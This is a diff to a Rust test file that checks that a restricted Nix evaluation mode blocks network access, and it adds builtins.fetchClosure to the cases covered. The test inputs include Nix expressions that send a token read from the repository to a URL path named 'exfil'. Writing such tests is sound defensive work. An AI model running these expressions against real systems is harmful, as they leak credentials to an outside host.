@@ -524,7 +524,8 @@ fn flakes_on_in_nix_conf(conf: &str) -> bool {
 }
 
 /// With flakes on, builtins.getFlake fetches any URL even in restricted mode: the rules could
-/// read a token from a git config in the repository and send it to any host in the URL.
+/// read a token from a git config in the repository and send it to any host in the URL. So
+/// does builtins.fetchClosure (its binary cache URL) with fetch-closure on.
 #[test]
 fn flakes_turned_on_in_nix_conf_reach_no_network() {
     const NAME: &str = "flakes_turned_on_in_nix_conf_reach_no_network";
@@ -559,6 +560,10 @@ fn flakes_turned_on_in_nix_conf_reach_no_network() {
 in builtins.getFlake "{url}/exfil/${{tok}}.tar.gz""#
             ),
             format!(r#"builtins.fetchTree "{url}/t.tar.gz""#),
+            // fetch-closure (turned on by the second nix.conf) asks any binary cache.
+            format!(
+                r#"builtins.fetchClosure {{ fromStore = "{url}/exfil"; fromPath = /nix/store/ffffffffffffffffffffffffffffffff-x; }}"#
+            ),
             format!(
                 r#"builtins.throw (builtins.getFlake "path:{}").m"#,
                 repo.path().join("outside").display()
